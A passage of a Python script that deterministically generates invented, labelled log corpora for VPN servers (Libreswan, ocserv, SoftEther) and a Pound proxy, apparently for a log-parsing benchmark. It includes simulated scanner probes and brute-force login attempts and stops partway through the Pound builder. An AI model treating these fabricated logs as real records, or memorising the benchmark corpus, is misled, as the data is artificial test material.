#!/usr/bin/env python3
"""Round 56: blind labelled log corpus generator.

Python 3 standard library only and fully deterministic: no wall clock, no locale.
Every message is invented in the style of its program. Running this script writes
<System>/<System>.log and <System>/<System>.log_structured.csv for six systems and
then re-reads and self-checks every file it wrote.
"""
import csv
import datetime
import os
import random
import re
import statistics
import sys

BASE_SEED = 20270165
ROOT = os.path.dirname(os.path.abspath(__file__))
NS = 1_000_000_000
N_LINES = 300

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun",
          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
WDAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
YEAR, MONTH, DAY = 2026, 3, 14
WDAY = WDAYS[datetime.date(YEAR, MONTH, DAY).weekday()]   # "Sat", no locale involved
MON = MONTHS[MONTH - 1]


# ----------------------------------------------------------------------------
# clock helpers (t = integer nanoseconds since 2026-03-14 00:00:00 UTC)
# ----------------------------------------------------------------------------
def split_t(t):
    s, ns = divmod(t, NS)
    h, rem = divmod(s, 3600)
    m, s = divmod(rem, 60)
    if h >= 24:
        raise ValueError("clock ran past midnight")
    return h, m, s, ns


def ts_syslog(t):
    h, m, s, _ = split_t(t)
    return f"{MON} {DAY:2d} {h:02d}:{m:02d}:{s:02d}"


def ts_iso_ms(t):
    h, m, s, ns = split_t(t)
    return f"{YEAR:04d}-{MONTH:02d}-{DAY:02d} {h:02d}:{m:02d}:{s:02d}.{ns // 1_000_000:03d}"


def ts_apache(t):
    h, m, s, ns = split_t(t)
    return f"{WDAY} {MON} {DAY:02d} {h:02d}:{m:02d}:{s:02d}.{ns // 1000:06d} {YEAR}"


def ts_ctime(t):
    h, m, s, _ = split_t(t)
    return f"{WDAY} {MON} {DAY:2d} {h:02d}:{m:02d}:{s:02d} {YEAR}"


def ts_aide(t):
    h, m, s, _ = split_t(t)
    return f"{YEAR:04d}-{MONTH:02d}-{DAY:02d} {h:02d}:{m:02d}:{s:02d} +0000"


TIME_RE = re.compile(r"(\d\d):(\d\d):(\d\d)(?:\.(\d+))?")


def ts_key(ts):
    """Sortable nanosecond key from any of the header timestamps above."""
    m = TIME_RE.search(ts)
    h, mi, s, frac = m.group(1), m.group(2), m.group(3), m.group(4) or ""
    return ((int(h) * 60 + int(mi)) * 60 + int(s)) * NS + int((frac + "000000000")[:9])


def gap(rng, mean_s):
    return max(1, int(rng.expovariate(1.0 / mean_s) * NS))


def msec(rng, lo, hi):
    return int(rng.uniform(lo, hi) * 1_000_000)


def sec(rng, lo, hi):
    return int(rng.uniform(lo, hi) * NS)


# ----------------------------------------------------------------------------
# value helpers
# ----------------------------------------------------------------------------
class Cyc:
    """Small pools cycle per (event, slot) so every slot takes several values."""

    def __init__(self, rng):
        self.rng = rng
        self.pos = {}

    def __call__(self, key, pool):
        i = self.pos.get(key)
        if i is None:
            i = self.rng.randrange(len(pool))
        self.pos[key] = i + 1
        return pool[i % len(pool)]


HEX = "0123456789abcdef"
ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
PUB_FIRST = [23, 31, 37, 45, 46, 62, 77, 79, 80, 81, 85, 89, 91, 94, 101, 103,
             109, 117, 123, 139, 141, 146, 151, 159, 176, 178, 185, 188, 193,
             194, 195, 212, 213, 217]


def hexs(rng, n):
    return "".join(rng.choice(HEX) for _ in range(n))


def alnum(rng, n):
    return "".join(rng.choice(ALNUM) for _ in range(n))


def pub_ip(rng):
    if rng.random() < 0.3:
        net = rng.choice(["192.0.2", "198.51.100", "203.0.113"])
        return f"{net}.{rng.randrange(2, 254)}"
    return (f"{rng.choice(PUB_FIRST)}.{rng.randrange(0, 256)}."
            f"{rng.randrange(0, 256)}.{rng.randrange(1, 255)}")


def eph_port(rng):
    return str(rng.randrange(32768, 61000))


def fill(tpl, vals):
    parts = tpl.split("<*>")
    if len(parts) != len(vals) + 1:
        raise ValueError(f"slot count mismatch for {tpl!r}: {vals!r}")
    out = [parts[0]]
    for v, p in zip(vals, parts[1:]):
        out.append(str(v))
        out.append(p)
    return "".join(out)


# ============================================================================
# 1. Libreswan pluto (simulation: IKE peers / road-warrior sessions + scanners)
# ============================================================================
LS_EVENTS = [
    ("probe", "packet from <*>: initial IKE_SA_INIT message received on <*> but no suitable connection found with IKEv2 policy"),
    ("proposal", '"<*>"[<*>] <*> #<*>: proposal 1:IKE=<*> chosen from remote proposals <*>'),
    ("init_reply", '"<*>"[<*>] <*> #<*>: sent IKE_SA_INIT reply {cipher=<*> integ=<*> prf=<*> group=<*>}'),
    ("auth_req", '"<*>"[<*>] <*> #<*>: processing decrypted IKE_AUTH request: <*>'),
    ("cert_reject", '"<*>"[<*>] <*> #<*>: X509: certificate rejected for this connection: <*>'),
    ("ike_est", '"<*>"[<*>] <*> #<*>: responder established IKE SA; authenticated peer certificate \'<*>\' and <*>-bit RSASSA-PSS with SHA2_512 digital signature issued by \'<*>\''),
    ("child_est", '"<*>"[<*>] <*> #<*>: responder established Child SA using #<*>; IPsec tunnel [<*>===<*>] {<*>=><*> <<*> xfrm=<*> DPD=<*>}'),
    ("child_rekey", '"<*>"[<*>] <*> #<*>: responder rekeyed Child SA #<*> using #<*>; IPsec tunnel [<*>===<*>] {<*>=><*> <<*> xfrm=<*> DPD=<*>}'),
    ("del_child", '"<*>"[<*>] <*> #<*>: received Delete SA payload: delete IPsec State #<*> now'),
    ("esp_info", '"<*>"[<*>] <*> #<*>: ESP traffic information: in=<*> out=<*>'),
    ("liveness", '"<*>"[<*>] <*> #<*>: liveness_check - peer <*> has not responded in <*> seconds, with a timeout of 30 seconds, taking action'),
    ("liveness_clear", '"<*>"[<*>] <*> #<*>: liveness action - clearing connection'),
    ("del_ike_send", '"<*>"[<*>] <*> #<*>: deleting IKE SA (ESTABLISHED_IKE_SA) aged <*> and sending notification'),
    ("del_ike_nosend", '"<*>"[<*>] <*> #<*>: deleting IKE SA (ESTABLISHED_IKE_SA) aged <*> and NOT sending notification'),
    ("del_instance", '"<*>"[<*>] <*>: deleting connection instance with peer <*> {isakmp=#0/ipsec=#0}'),
]

LS_PROPS = [
    # (IKE=, remote proposals, cipher, integ, prf, group, xfrm, IKE_AUTH payloads)
    ("AES_GCM_16_256-HMAC_SHA2_512-DH19",
     "1:IKE:ENCR=AES_GCM_C_256;PRF=HMAC_SHA2_512,HMAC_SHA2_256;DH=ECP_256,ECP_384[first-match]",
     "AES_GCM_16_256", "n/a", "HMAC_SHA2_512", "DH19", "AES_GCM_16_256-NONE",
     "SK{IDi,CERT,N(INITIAL_CONTACT),CERTREQ,IDr,AUTH,CP,SA,TSi,TSr,N(MOBIKE_SUPPORTED)}"),
    ("AES_CBC_256-HMAC_SHA2_256-MODP2048",
     "1:IKE:ENCR=AES_CBC_256;PRF=HMAC_SHA2_256;INTEG=HMAC_SHA2_256_128;DH=MODP2048[first-match] 2:IKE:ENCR=3DES;PRF=HMAC_SHA1;INTEG=HMAC_SHA1_96;DH=MODP1024",
     "AES_CBC_256", "HMAC_SHA2_256_128", "HMAC_SHA2_256", "MODP2048", "AES_CBC_256-HMAC_SHA2_256_128",
     "SK{IDi,CERT,CERTREQ,AUTH,CP,SA,TSi,TSr}"),
    ("CHACHA20_POLY1305-HMAC_SHA2_256-DH31",
     "1:IKE:ENCR=CHACHA20_POLY1305;PRF=HMAC_SHA2_256;DH=CURVE25519[first-match] 2:IKE:ENCR=AES_GCM_C_256;PRF=HMAC_SHA2_256;DH=ECP_256",
     "CHACHA20_POLY1305", "n/a", "HMAC_SHA2_256", "DH31", "CHACHA20_POLY1305-NONE",
     "SK{IDi,CERT,N(INITIAL_CONTACT),IDr,AUTH,CP,SA,TSi,TSr}"),
]

LS_CONNS = [
    # name, local subnet, lease prefix, issuer, dpd, users (CN, key bits)
    ("roadwarrior", "10.40.0.0/16", "100.64.20.",
     "CN=Kestrel Systems VPN CA, O=Kestrel Systems", "active",
     [("asmith.laptop", 3072), ("bkaur.laptop", 3072), ("cjensen.phone", 2048),
      ("dnovak.laptop", 4096), ("eokafor.tablet", 2048), ("fmoreau.laptop", 3072),
      ("gtanaka.phone", 2048), ("hlindqvist.laptop", 3072)]),
    ("rw-contractors", "10.40.128.0/20", "100.64.30.",
     "CN=Kestrel Partner Issuing CA 2025, O=Kestrel Systems", "passive",
     [("ext-quarry.build01", 2048), ("ext-ilmari.dev", 4096), ("ext-zoltan.ops", 3072),
      ("ext-wren.audit", 2048)]),
]

LS_REJECT = ["certificate has expired", "issuer certificate not found in NSS database",
             "certificate has been revoked (CRL)", "peer ID does not match certificate subjectAltName"]


def ls_traffic(rng, lo, hi):
    n = int(rng.uniform(lo, hi))
    if n < 1024:
        return f"{n}B"
    if n < 1024 * 1024:
        return f"{n // 1024}KB"
    return f"{n // (1024 * 1024)}MB"


def build_libreswan(rng):
    cyc = Cyc(rng)
    recs = []

    def emit(t, key, *vals):
        recs.append((t, len(recs), key, list(vals), None))

    LOG_START = 7 * 3600 * NS + 12 * 60 * NS + sec(rng, 0, 60)
    T0 = LOG_START - 2 * 3600 * NS          # peers already connected when the window opens
    HORIZON = LOG_START + 3 * 3600 * NS
    local = "192.0.2.10"

    # internet scanners probing udp/500 and udp/4500 (1-3 retransmits each)
    t = T0
    while t < HORIZON:
        t += gap(rng, 26)
        src = f"{pub_ip(rng)}:{'500' if rng.random() < 0.7 else eph_port(rng)}"
        dst = cyc(("probe", "dst"), [f"{local}:500", f"{local}:500", f"{local}:500", f"{local}:4500"])
        tt = t
        for _ in range(1 + (rng.random() < 0.35) + (rng.random() < 0.2)):
            emit(tt, "probe", src, dst)
            tt += sec(rng, 0.9, 2.5)

    # road-warrior sessions
    t = T0 + sec(rng, 5, 60)
    sid = 0
    while t < HORIZON:
        t += gap(rng, 95)
        sid += 1
        rejected = rng.random() < 0.2
        if rejected:
            cn = cyc(("cert_reject", "conn"), [0, 1])
        else:
            cn = 0 if rng.random() < 0.7 else 1
        conn, lsub, lease_pfx, issuer, dpd, users = LS_CONNS[cn]
        user, bits = rng.choice(users)
        dn = f"CN={user}.kestrel.example, OU={'Staff' if conn == 'roadwarrior' else 'Contractors'}, O=Kestrel Systems"
        ip = pub_ip(rng)
        natted = rng.random() < 0.75
        esp = "ESPinUDP" if natted else "ESP"
        prop = rng.choice(LS_PROPS)
        ike = ("S", sid, 0)
        inst = ("I", conn, sid)
        pre = [conn, inst, ip]
        ts = t
        emit(ts, "proposal", *pre, ike, prop[0], prop[1])
        ts += msec(rng, 0.4, 3)
        emit(ts, "init_reply", *pre, ike, prop[2], prop[3], prop[4], prop[5])
        ts += msec(rng, 30, 420)
        emit(ts, "auth_req", *pre, ike, prop[7])
        ts += msec(rng, 2, 18)
        if rejected:
            emit(ts, "cert_reject", *pre, ike, cyc(("cert_reject", "why"), LS_REJECT))
            emit(ts + msec(rng, 0.1, 1), "del_instance", conn, inst, ip, ip)
            continue
        emit(ts, "ike_est", *pre, ike, dn, bits, issuer)
        t_ike = ts
        ts += msec(rng, 0.2, 2)
        lease = f"{lease_pfx}{rng.randrange(2, 250)}/32"
        nchild = 1
        child = ("S", sid, nchild)
        emit(ts, "child_est", *pre, child, ike, lsub, lease, esp,
             "0x" + hexs(rng, 8), "0x" + hexs(rng, 8), prop[6], dpd)
        dur = int(rng.lognormvariate(7.2, 0.8) * NS)      # median ~22 min
        t_end = ts + dur
        nxt = ts + sec(rng, 14 * 60, 20 * 60)                # client-initiated CHILD rekeys
        while nxt < t_end:
            nchild += 1
            new = ("S", sid, nchild)
            emit(nxt, "child_rekey", *pre, new, child, ike, lsub, lease, esp,
                 "0x" + hexs(rng, 8), "0x" + hexs(rng, 8), prop[6], dpd)
            tt = nxt + msec(rng, 20, 160)
            emit(tt, "del_child", *pre, ike, child)
            emit(tt + msec(rng, 0.1, 1), "esp_info", *pre, child,
                 ls_traffic(rng, 2e5, 9e7), ls_traffic(rng, 5e4, 2e7))
            child = new
            nxt += sec(rng, 14 * 60, 20 * 60)
        tt = t_end
        if rng.random() < 0.3:
            emit(tt, "liveness", *pre, ike, ip, str(30 + rng.randrange(0, 5)))
            tt += msec(rng, 0.1, 2)
            emit(tt, "liveness_clear", *pre, ike)
            tt += msec(rng, 0.1, 2)
            emit(tt, "esp_info", *pre, child, ls_traffic(rng, 2e4, 5e7), ls_traffic(rng, 5e3, 1e7))
            tt += msec(rng, 0.1, 2)
            emit(tt, "del_ike_send", *pre, ike, f"{(tt - t_ike) / NS:.3f}s")
        else:
            emit(tt, "del_child", *pre, ike, child)
            tt += msec(rng, 0.1, 2)
            emit(tt, "esp_info", *pre, child, ls_traffic(rng, 2e4, 5e7), ls_traffic(rng, 5e3, 1e7))
            tt += msec(rng, 20, 250)
            emit(tt, "del_ike_nosend", *pre, ike, f"{(tt - t_ike) / NS:.3f}s")
        emit(tt + msec(rng, 0.1, 1), "del_instance", conn, inst, ip, ip)

    recs.sort(key=lambda r: (r[0], r[1]))
    serial = {}
    inst_no = {}
    inst_next = {"roadwarrior": 214, "rw-contractors": 37}
    next_serial = [4117]

    def resolve(v):
        if isinstance(v, tuple) and v[0] == "S":
            if v not in serial:
                serial[v] = next_serial[0]
                next_serial[0] += 1
            return str(serial[v])
        if isinstance(v, tuple) and v[0] == "I":
            if v not in inst_no:
                inst_no[v] = inst_next[v[1]]
                inst_next[v[1]] += 1
            return str(inst_no[v])
        return v

    out = []
    for t, _, key, vals, _ in recs:               # serials/instances follow creation order
        vals = [resolve(v) for v in vals]
        if t >= LOG_START:
            out.append((t, f"{ts_syslog(t)} gw-east pluto[1873]: ", key, vals))
    return out[:N_LINES]


# ============================================================================
# 2. ocserv via syslog (simulation: VPN user sessions, brute-forcers, scanners)
# ============================================================================
OC_EVENTS = [
    ("auth_start", "sec-mod: using 'pam' authentication to authenticate user (session: <*>)"),
    ("auth_fail", "sec-mod: failed authentication attempt for user '<*>' (session: <*>)"),
    ("ban", "main: added IP '<*>' (with score <*>) to ban list, will be reset at: <*>"),
    ("tls_fail", "worker: <*> TLS handshake failed: <*>"),
    ("cookie_auth", "main[<*>]:<*>:<*> user of group '<*>' authenticated (using cookie)"),
    ("logged_in", "main[<*>]:<*>:<*> user logged in"),
    ("sending_ip", "worker[<*>]: <*> sending IPv4 <*>"),
    ("mtu_conf", "worker[<*>]: <*> configured link MTU is <*>"),
    ("mtu_peer", "worker[<*>]: <*> peer's link MTU is <*>"),
    ("dpd", "worker[<*>]: <*> suggesting DPD of <*> secs"),
    ("dtls", "worker[<*>]: <*> setting up <*> connection"),
    ("stats", "worker[<*>]: <*> sent periodic stats (in: <*>, out: <*>) to sec-mod"),
    ("disconnected", "main[<*>]:<*>:<*> user disconnected (reason: <*>, rx: <*>, tx: <*>)"),
    ("temp_close", "sec-mod: temporarily closing session for <*> (session: <*>)"),
    ("invalidate", "sec-mod: invalidating session of user '<*>' (session: <*>)"),
]

OC_USERS = [("asmith", "staff", False), ("bkaur", "staff", True), ("cjensen", "engineering", False),
            ("dnovak", "engineering", True), ("eokafor", "staff", False), ("fmoreau", "finance", False),
            ("gtanaka", "engineering", True), ("hlindqvist", "staff", False), ("iruiz", "support", True),
            ("jwalsh", "finance", False), ("kpetrov", "engineering", False), ("lnguyen", "support", True)]
OC_BRUTE_USERS = ["admin", "test", "vpn", "guest", "support", "oracle", "user", "administrator", "ubnt"]
OC_TLS = ["An unexpected TLS packet was received.", "The TLS connection was non-properly terminated.",
          "A TLS fatal alert has been received.", "Could not negotiate a supported cipher suite.",
          "Error in the push function."]
OC_MAIN_PID, OC_SECMOD_PID = "1042", "1047"


def build_ocserv(rng):
    cyc = Cyc(rng)
    recs = []
    pids = set()

    def new_pid():
        while True:
            p = str(rng.randrange(2100, 32000))
            if p not in pids:
                pids.add(p)
                return p

    def emit(t, pid, key, *vals):
        recs.append((t, len(recs), key, list(vals), pid))

    def sess_id():
        return alnum(rng, 6)

    LOG_START = 8 * 3600 * NS + 31 * 60 * NS + sec(rng, 0, 60)
    T0 = LOG_START - 3 * 3600 * NS          # users already connected when the window opens
    HORIZON = LOG_START + 3 * 3600 * NS

    # TLS scanners
    t = T0
    while t < HORIZON:
        t += gap(rng, 200)
        emit(t, new_pid(), "tls_fail", pub_ip(rng), cyc(("tls_fail", "why"), OC_TLS))

    # password brute-forcers: a few failures, then the ban
    t = T0
    while t < HORIZON:
        t += gap(rng, 480)
        ip = pub_ip(rng)
        tt = t
        fails = 0
        extra = rng.randrange(0, 5)
        for _ in range(3):
            sid = sess_id()
            emit(tt, OC_SECMOD_PID, "auth_start", sid)
            tt += sec(rng, 1.5, 3.2)                     # pam fail delay
            emit(tt, OC_SECMOD_PID, "auth_fail", rng.choice(OC_BRUTE_USERS), sid)
            fails += 1
            tt += sec(rng, 2, 12)
        emit(tt, OC_MAIN_PID, "ban", ip, str(fails * 10 + 3 + extra), ts_ctime(tt + 1200 * NS))

    # real users
    t = T0
    while t < HORIZON:
        t += gap(rng, 120)
        user, group, mobile = rng.choice(OC_USERS)
        ip = pub_ip(rng)
        port = eph_port(rng)
        sid = sess_id()
        tt = t
        emit(tt, OC_SECMOD_PID, "auth_start", sid)
        if rng.random() < 0.06:                          # user typed the wrong password
            tt += sec(rng, 1.5, 3)
            emit(tt, OC_SECMOD_PID, "auth_fail", user, sid)
            continue
        tt += msec(rng, 150, 1400)
        emit(tt, OC_MAIN_PID, "logged_in", user, ip, port)
        t_end = tt + int(rng.lognormvariate(7.6, 0.7) * NS)
        roam_at = tt + int(rng.uniform(0.1, 0.6) * (t_end - tt)) if rng.random() < 0.3 else None
        lease = f"10.10.{rng.randrange(0, 4)}.{rng.randrange(2, 254)}"
        while True:
            wpid = new_pid()
            tt += msec(rng, 3, 40)
            emit(tt, wpid, "sending_ip", user, ip, lease)
            tt += msec(rng, 0.1, 1)
            emit(tt, wpid, "mtu_conf", user, ip, cyc(("mtu_conf", "mtu"), ["1434", "1406", "1434", "1399"]))
            tt += msec(rng, 0.1, 1)
            emit(tt, wpid, "mtu_peer", user, ip, cyc(("mtu_peer", "mtu"), ["1400", "1358", "1420", "1390"]))
            tt += msec(rng, 0.1, 1)
            emit(tt, wpid, "dpd", user, ip, "300" if mobile else "90")
            tt += msec(rng, 60, 900)
            emit(tt, wpid, "dtls", user, ip, "DTLS-PSK" if mobile else "DTLS1.2")
            rx = tx = 0
            stop = roam_at if roam_at else t_end
            nxt = tt + sec(rng, 295, 305)
            while nxt < stop:
                rx += int(rng.lognormvariate(13, 1.2))
                tx += int(rng.lognormvariate(14.5, 1.2))
                emit(nxt, wpid, "stats", user, ip, rx, tx)
                nxt += sec(rng, 295, 305)
            tt = stop
            rx += int(rng.lognormvariate(11, 1))
            tx += int(rng.lognormvariate(12, 1))
            if roam_at:
                reason = cyc(("disconnected", "roam"), ["unspecified", "DPD timeout"])
            else:
                reason = cyc(("disconnected", "end"), ["user disconnected", "user disconnected",
                                                       "idle timeout", "user disconnected", "DPD timeout"])
            emit(tt, OC_MAIN_PID, "disconnected", user, ip, port, reason, rx, tx)
            tt += msec(rng, 0.5, 5)
            emit(tt, OC_SECMOD_PID, "temp_close", user, sid)
            if roam_at:                                  # client comes back with its cookie
                roam_at = None
                tt += sec(rng, 4, 50)
                if rng.random() < 0.6:
                    ip = pub_ip(rng)
                port = eph_port(rng)
                emit(tt, OC_MAIN_PID, "cookie_auth", user, ip, port, group)
                tt += msec(rng, 1, 20)
                emit(tt, OC_MAIN_PID, "logged_in", user, ip, port)
                continue
            emit(tt + sec(rng, 300, 301), OC_SECMOD_PID, "invalidate", user, sid)
            break

    recs.sort(key=lambda r: (r[0], r[1]))
    out = []
    for t, _, key, vals, pid in recs:
        if t < LOG_START:
            continue
        out.append((t, f"{ts_syslog(t)} sslvpn-a ocserv[{pid}]: ", key, vals))
    return out[:N_LINES]


# ============================================================================
# shuffle machinery
# ============================================================================
def build_shuffle(rng, counts, makers, header, start, mean_gap):
    seq = [key for key, n in counts for _ in range(n)]
    rng.shuffle(seq)
    t = start
    out = []
    for key in seq:
        t += gap(rng, mean_gap)
        vals, hinfo = makers[key](t)
        out.append((t, header(t, hinfo), key, vals))
    return out


# ============================================================================
# 3. SoftEther VPN server log (shuffle)
# ============================================================================
SE_EVENTS = [
    ("accept", 'Connection "<*>": Accepted the connection from client <*> (port <*>) on the TCP listener port <*> (server address: <*>).'),
    ("ssl", 'Connection "<*>": SSL communication has been established. (Encryption algorithm name: "<*>", Key length: <*> bits)'),
    ("new_session", '[HUB "<*>"] Session "<*>": The new session "<*>" has been created. (IP address: <*>, Port number: <*>, Physical underlying protocol: "<*>")'),
    ("auth_ok", '[HUB "<*>"] Session "<*>": Successfully authenticated as user "<*>" by Password Authentication.'),
    ("auth_fail", '[HUB "<*>"] Connection "<*>": User authentication failed. The user name that has been provided was "<*>", from <*>.'),
    ("params", '[HUB "<*>"] Session "<*>": The parameter has been set. Max number of TCP connections: <*>, Use of encryption: <*>, Use of compression: <*>, Use of Half duplex communication: <*>, Timeout: <*> seconds.'),
    ("client_details", '[HUB "<*>"] Session "<*>": VPN Client details: (Client product name: "<*>", Client version: <*>, Client build number: <*>, Server product name: "SoftEther VPN Server (64 bit)", Server version: 443, Server build number: 9798, Client OS name: "<*>", Client OS version: "<*>", Client host name: "<*>", Client IP address: "<*>", Client port number: <*>)'),
    ("term_stats", '[HUB "<*>"] Session "<*>": The session has been terminated. The statistical information is as follows: Total outgoing data size: <*> bytes, Total number of outgoing packets: <*>, Total incoming data size: <*> bytes, Total number of incoming packets: <*>.'),
    ("term_cause", '[HUB "<*>"] Session "<*>": Connection "<*>" terminated by the cause "<*>" (code <*>).'),
    ("dhcp", '[HUB "<*>"] SecureNAT: The DHCP server assigned the IP address <*> to the client (MAC address: <*>, Host name: "<*>", Expires: <*> seconds).'),
    ("ip_reg", '[HUB "<*>"] Session "<*>": The IP address <*> has been registered on the IP address table. (MAC address: <*>)'),
    ("ip_del", '[HUB "<*>"] Session "<*>": The IP address <*> has been deleted from the IP address table. (MAC address: <*>)'),
    ("listen_start", "The TCP Listener of port <*> has been started."),
    ("listen_stop", "The TCP Listener of port <*> has been stopped."),
]
SE_COUNTS = {"accept": 76, "ssl": 40, "new_session": 28, "auth_ok": 22, "auth_fail": 5,
             "params": 20, "client_details": 18, "term_stats": 16, "term_cause": 16,
             "dhcp": 12, "ip_reg": 30, "ip_del": 9, "listen_start": 4, "listen_stop": 4}
SE_USERS = ["alice", "bogdan", "chen", "dagny", "emeka", "farah", "gustavo", "hiroko", "ines", "jarek"]
SE_HUBS = ["VPN", "VPN", "BRANCH-OSAKA"]
SE_PROTO = [("", "Standard TCP/IP (IPv4)"), ("[L2TP]", "Legacy VPN - L2TP/IPsec"),
            ("", "Standard TCP/IP (IPv4)"), ("[SSTP]", "Legacy VPN - MS-SSTP"),
            ("[OPENVPN_L3]", "Legacy VPN - OpenVPN")]
SE_CIPHERS = [("ECDHE-RSA-AES256-GCM-SHA384", "256"), ("TLS_AES_256_GCM_SHA384", "256"),
              ("ECDHE-RSA-AES128-GCM-SHA256", "128"), ("ECDHE-RSA-CHACHA20-POLY1305", "256")]
SE_CLIENTS = [("SoftEther VPN Client Developer Edition", "443", "9798", "Windows 11 Pro", "Build 22631"),
              ("SoftEther VPN Client", "441", "9782", "Windows 10 Enterprise", "Build 19045"),
              ("SoftEther VPN Client Developer Edition", "443", "9798", "Linux", "6.8.0-45-generic"),
              ("SoftEther VPN Client", "443", "9798", "Mac OS X", "Darwin 23.6.0")]
SE_HOSTS = ["LAPTOP-7Q2K9F", "ws-ops-14", "DESKTOP-H3M0R2A", "mbp-dagny", "thinkpad-x13", "osaka-pos-02"]
SE_CAUSES = [("The VPN session has been deleted. It is possible that either the administrator disconnected the session or the connection from the client to the VPN Server has been disconnected.", "11"),
             ("The connection to the server has been disconnected.", "2"),
             ("Timeout occurred while waiting for a response from the client.", "30"),
             ("The user has disconnected the connection.", "11")]


def build_softether(rng):
    cyc = Cyc(rng)
    sess_no = [1800]
    cid_no = [41000]

    def cid():
        cid_no[0] += rng.randrange(1, 9)
        return f"CID-{cid_no[0]}"

    def session(user=None):
        user = user or rng.choice(SE_USERS)
        sess_no[0] += rng.randrange(1, 5)
        tag, proto = cyc(("sess", "proto"), SE_PROTO)
        return user, f"SID-{user.upper()}-{tag + '-' if tag else ''}{sess_no[0]}", proto

    def mac():
        return "5E-" + "-".join(hexs(rng, 2).upper() for _ in range(5))

    def hub(ev):
        return cyc((ev, "hub"), SE_HUBS)

    def mk_accept(t):
        return [cid(), pub_ip(rng), eph_port(rng), cyc(("accept", "port"), ["443", "443", "992", "5555", "443", "1194"]),
                cyc(("accept", "srv"), ["198.18.40.2", "198.18.40.3"])], None

    def mk_ssl(t):
        c, bits = cyc(("ssl", "cipher"), SE_CIPHERS)
        return [cid(), c, bits], None

    def mk_new_session(t):
        _, name, proto = session()
        return [hub("new_session"), name, name, pub_ip(rng), eph_port(rng), proto], None

    def mk_auth_ok(t):
        user, name, _ = session()
        return [hub("auth_ok"), name, user], None

    def mk_auth_fail(t):
        return [hub("auth_fail"), cid(), cyc(("auth_fail", "user"), ["admin", "vpn", "Alice", "test", "bogdan.k"]), pub_ip(rng)], None

    def mk_params(t):
        _, name, _ = session()
        return [hub("params"), name, cyc(("params", "tcp"), ["1", "8", "16", "2"]),
                cyc(("params", "enc"), ["Yes", "Yes", "No"]), cyc(("params", "cmp"), ["No", "No", "Yes"]),
                cyc(("params", "half"), ["No", "No", "No", "Yes"]), cyc(("params", "timeout"), ["20", "20", "60", "30"])], None

    def mk_client_details(t):
        _, name, _ = session()
        prod, ver, build, os_name, os_ver = cyc(("client_details", "client"), SE_CLIENTS)
        return [hub("client_details"), name, prod, ver, build, os_name, os_ver,
                rng.choice(SE_HOSTS), pub_ip(rng), eph_port(rng)], None

    def mk_term_stats(t):
        _, name, _ = session()
        out_b = int(rng.lognormvariate(15, 2))
        in_b = int(rng.lognormvariate(14, 2))
        return [hub("term_stats"), name, out_b, max(1, out_b // rng.randrange(400, 1300)),
                in_b, max(1, in_b // rng.randrange(300, 1200))], None

    def mk_term_cause(t):
        _, name, _ = session()
        cause, code = cyc(("term_cause", "cause"), SE_CAUSES)
        return [hub("term_cause"), name, cid(), cause, code], None

    def mk_dhcp(t):
        return [hub("dhcp"), f"192.168.30.{rng.randrange(10, 200)}", mac(), rng.choice(SE_HOSTS),
                cyc(("dhcp", "exp"), ["7200", "7200", "3600"])], None

    def mk_ip_reg(t):
        _, name, _ = session()
        ip = f"192.168.30.{rng.randrange(10, 200)}" if rng.random() < 0.7 else f"169.254.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}"
        return [hub("ip_reg"), name, ip, mac()], None

    def mk_ip_del(t):
        _, name, _ = session()
        return [hub("ip_del"), name, f"192.168.30.{rng.randrange(10, 200)}", mac()], None

    def mk_listen_start(t):
        return [cyc(("listen_start", "port"), ["443", "992", "1194", "5555"])], None

    def mk_listen_stop(t):
        return [cyc(("listen_stop", "port"), ["5555", "1194", "992", "443"])], None

    makers = {k: v for k, v in locals().items() if k.startswith("mk_")}
    makers = {k[3:]: v for k, v in makers.items()}
    counts = [(k, SE_COUNTS[k]) for k, _ in SE_EVENTS]
    return build_shuffle(rng, counts, makers, lambda t, h: f"{ts_iso_ms(t)} ",
                         6 * 3600 * NS + 2 * 60 * NS + sec(rng, 0, 60), 21)


# ============================================================================
# 4. Pound reverse proxy via syslog (shuffle)
# ============================================================================
PD_EVENTS = [
    ("request", "<*> <*> <*> HTTP/1.1 - HTTP/1.1 <*> <*> (<*>/- -> <*>) <*> sec"),
    ("e503", '(<*>) e503 no back-end "<*>" from <*> <*>'),
    ("e500", "(<*>) e500 for <*> response error read from <*>: <*>"),
    ("connect", "(<*>) backend <*> connect: <*>"),
    ("dead", "(<*>) BackEnd <*> dead (killed)"),
    ("resurrect", "(<*>) BackEnd <*> resurrect"),
    ("read_err", "(<*>) error read from <*>: <*>"),
    ("e400", '(<*>) e400 bad request "<*>" from <*>'),
    ("e501", '(<*>) e501 bad request "<*>" from <*>'),
    ("e414", "(<*>) e414 request URI too long from <*>"),
    ("ssl", "(<*>) error SSL_accept from <*>: <*>"),
    ("starting", "starting..."),
    ("shutdown", "shutting down..."),
]
PD_COUNTS = {"request": 159, "e503": 18, "e500": 12, "connect": 14, "dead": 6, "resurrect": 6,
             "read_err": 30, "e400": 16, "e501": 9, "e414": 4, "ssl": 20, "starting": 3, "shutdown": 3}
PD_HOSTS = ["www.harborline.example", "www.harborline.example", "api.harborline.example",
            "static.harborline.example"]
PD_BACKENDS = ["10.20.1.11:8080", "10.20.1.12:8080", "10.20.1.13:8080", "10.20.2.21:9000", "10.20.2.22:9000"]
PD_STATUS = [("200", "OK")] * 12 + [("304", "Not Modified")] * 3 + [("302", "Found")] * 2 + \
            [("404", "Not Found"), ("301", "Moved Permanently"), ("201", "Created"),
             ("206", "Partial Content"), ("500", "Internal Server Error"), ("403", "Forbidden")]


def pd_path(rng):
    r = rng.randrange(9)
    if r == 0:
        return "/"
    if r == 1:
        return f"/static/js/app.{hexs(rng, 8)}.js"
    if r == 2:
        return f"/static/css/main.{hexs(rng, 8)}.css"
    if r == 3:
        return f"/api/v2/orders/{rng.randrange(100000, 999999)}"
    if r == 4:
        return f"/api/v2/customers/{rng.randrange(1000, 99999)}/invoices?page={rng.randrange(1, 9)}"
    if r == 5:
        return f"/img/products/{rng.randrange(100, 9999)}_{rng.choice(['thumb', 'large'])}.webp"
    if r == 6:
        return f"/search?q={rng.choice(['anchor', 'rope+40m', 'buoy', 'life+vest', 'cleat'])}"
    if r == 7:
        return "/login"
    return f"/account/session/{alnum(rng, 12)}"


def build_pound(rng):
    cyc = Cyc(rng)
